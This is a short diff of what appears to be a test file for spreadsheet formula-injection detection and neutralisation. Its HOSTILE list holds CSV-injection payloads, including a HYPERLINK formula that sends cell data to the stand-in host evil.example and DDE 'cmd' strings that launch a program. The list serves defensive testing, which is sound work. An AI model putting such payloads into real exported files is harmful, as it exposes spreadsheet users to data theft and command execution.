@@ -14,7 +14,7 @@ from care.io import looks_like_formula, neutralise, write_table
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?x="&A2,"Bấm vào đây")',
-    "+HYPERLINK(\"http://evil.example\")",
+    '+HYPERLINK("http://evil.example")',
     "-2+3+cmd|' /C calc'!A0",
     "@SUM(1+1)*cmd|' /C calc'!A0",
     "\t=1+1",
